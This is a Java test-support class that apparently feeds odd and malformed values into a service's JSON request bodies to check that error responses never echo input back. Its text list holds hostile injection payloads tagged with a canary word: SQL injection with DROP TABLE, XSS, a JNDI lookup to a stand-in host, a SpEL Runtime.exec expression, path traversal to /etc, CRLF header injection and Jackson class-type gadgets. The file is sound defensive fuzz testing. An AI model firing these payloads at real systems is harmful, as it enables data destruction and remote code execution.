package org.safehomes.it.bodies;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

/** What people, broken programs and attackers put where something else belongs. */
final class OddValues {

    /** Stands in every odd text and in no good one: no error may tell it again. */
    static final String CANARY = "Quincetree";

    private static final List<String> TEXTS = List.of(
            CANARY + " 4 Mill Lane",
            CANARY + "'; DROP TABLE sh_case; --",
            CANARY + "' OR 1=1 --",
            "<script>alert('" + CANARY + " 4')</script>",
            "<img src=x onerror=" + CANARY + "(4)>",
            "${jndi:ldap://" + CANARY + ".example/x}",
            "#{T(java.lang.Runtime).getRuntime().exec('" + CANARY + "')}",
            "{{" + CANARY + "*4}}",
            "%s%n%x " + CANARY,
            "../../../etc/" + CANARY,
            "\r\nX-Injected: " + CANARY + "\r\n\r\n",
            "\u0001\u0007\u001b[31m" + CANARY,
            "\u202e" + CANARY + "\u2066",
            "\ufeff" + CANARY,
            "\u0000" + CANARY,
            "\ud83d" + CANARY,
            "\udc00\ud83d" + CANARY,
            "\ud83d\ude80 " + CANARY + " e\u0301\u00df\u0130",
            "\u00a0\u2003\t",
            "",
            " ",
            "null",
            "C-7KQ2M9X4TB3DHW5N",
            "E-0000000000000000",
            "java.lang.Runtime " + CANARY);

    private static final List<String> TIMES = List.of(
            "+999999999-12-31",
            "-999999999-01-01",
            "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "+1000000001-01-01T00:00:00Z",
            "-1000000000",
            "9999-12-31T23:59:59Z",
            "+10000-01-01T00:00:00Z",
            "9999-12-31",
            "+10000-01-01",
            "0000-01-01",
            "-0001-12-31T00:00:00Z",
            "0001-01-01T00:00:00Z",
            "1582-10-10T00:00:00Z",
            "1970-01-01T00:00:00Z",
            "2026-02-29",
            "2026-02-30T00:00:00Z",
            "2026-03-31",
            "2026-03-31T24:00:00Z",
            "2026-03-31T23:59:60Z",
            "2026-03-31T09:30:00",
            "2026-03-31T09:30:00+01:00",
            "2026-03-29T01:30:00Z",
            "2026-03-31T09:30:00.123456789123Z",
            "31/03/2026",
            "25:00",
            "24:00",
            "23:59:59.999999999",
            "\u0662\u0660\u0662\u0666-03-31");

    /** As they stand in the document, whether they are JSON or not. */
    private static final List<String> RAW = List.of(
            "null",
            "true",
            "false",
            "0",
            "-1",
            "-0",
            "1",
            "25",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "1" + "0".repeat(39),
            "1" + "0".repeat(400),
            "1.5",
            "1.0",
            "1e3",
            "1e400",
            "1e-400",
            "1E999999999",
            "-1e999999999",
            "NaN",
            "Infinity",
            "-Infinity",
            "01",
            "0x10",
            "+1",
            ".5",
            "1.",
            "undefined",
            "'" + CANARY + "'",
            CANARY,
            "/* " + CANARY + " */ 1",
            "\"" + CANARY,
            "\"\\u12\"",
            "\"\\x\"",
            "\"\\ud800 " + CANARY + "\"",
            "[]",
            "[null]",
            "[[]]",
            "{}",
            "{\"value\":\"" + CANARY + " 4\"}",
            "[\"java.util.HashMap\",{}]",
            "{\"@class\":\"java.lang.Runtime\"}",
            ",",
            "}",
            "]");

    private static final List<String> NUMBERS =
            List.of("0", "-1", "1", "24", "25", "130", "131", "1000", "1001", "2147483647", "2147483648", "1.5", "1e2");

    private static final Pattern LIKE_A_TIME = Pattern.compile("^(\\d{4}-|\\d\\d:|\\{(now|later|today|soon)})");

    private static final List<String> NAMES = List.of(
            "",
            " ",
            CANARY + " 4 Mill Lane",
            "<b>" + CANARY + "</b>",
            CANARY + "'; --",
            "$" + CANARY,
            "/" + CANARY + "/0",
            "\ud83d",
            "__proto__",
            "@class",
            "@type",
            "class",
            "value",
            "id",
            "version",
            "reference");

    private static final List<String> MEDIA_TYPES = List.of(
            "text/plain",
            "text/html",
            "application/xml",
            "application/octet-stream",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json;charset=utf-16",
            "application/json;charset=iso-8859-1",
            "application/json;charset=" + CANARY,
            "application/json;charset=",
            "application/json;charset=UTF-8",
            "application/json; charset=\"utf-8\"",
            "APPLICATION/JSON",
            "application/merge-patch+json",
            "application/" + CANARY,
            "application",
            "*/*",
            "application/*",
            "/",
            ";",
            "application/json, text/plain");

    private OddValues() {}

    /** As JSON text: in quotes, or not even JSON. */
    static String value(Random random) {
        return switch (random.nextInt(8)) {
            case 0, 1 -> quoted(random, pick(TEXTS, random));
            case 2, 3 -> quoted(random, pick(TIMES, random));
            case 4 -> quoted(random, longText(random));
            case 5 -> deep(random);
            default -> pick(RAW, random);
        };
    }

    /** Half of them of the same kind as what was there: they get further in than the others. */
    static String insteadOf(JsonNode good, Random random) {
        if (random.nextBoolean()) {
            return value(random);
        }
        if (good.isTextual() && LIKE_A_TIME.matcher(good.textValue()).find()) {
            return quoted(random, pick(TIMES, random));
        }
        if (good.isTextual()) {
            return quoted(random, random.nextBoolean() ? pick(TEXTS, random) : longText(random));
        }
        if (good.isNumber()) {
            return pick(NUMBERS, random);
        }
        return good.isBoolean() ? Boolean.toString(!good.booleanValue()) : good.isArray() ? "[]" : "null";
    }

    /** Already in quotes. */
    static String name(Random random) {
        return random.nextInt(12) == 0 ? quoted(random, longText(random)) : quoted(random, pick(NAMES, random));
    }

    static String mediaType(Random random) {
        return pick(MEDIA_TYPES, random);
    }

    /** Around each limit that a field has, and far past all of them. */
    private static String longText(Random random) {
        int length = pick(List.of(41, 200, 201, 500, 501, 4000, 4001, 20_000, 20_001, 100_001), random);
        var unit = random.nextBoolean() ? CANARY + " " : "\ud83d\ude80";
        return unit.repeat(length / unit.length() + 1).substring(0, length);
    }

    private static String deep(Random random) {
        int depth = pick(List.of(5, 31, 32, 33, 1000, 20_000), random);
        return random.nextBoolean()
                ? "[".repeat(depth) + "]".repeat(depth)
                : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    /** Control characters and halves of pairs escaped, or as they are. */
    private static String quoted(Random random, String text) {
        boolean escape = random.nextInt(4) > 0;
        var json = new StringBuilder("\"");
        text.chars().forEach(unit -> {
            char character = (char) unit;
            if (character == '"' || character == '\\') {
                json.append('\\').append(character);
            } else if (escape && (character < ' ' || Character.isSurrogate(character))) {
                json.append("\\u").append(HexFormat.of().toHexDigits(character));
            } else {
                json.append(character);
            }
        });
        return json.append('"').toString();
    }

    static <T> T pick(List<T> choices, Random random) {
        return choices.get(random.nextInt(choices.size()));
    }
}
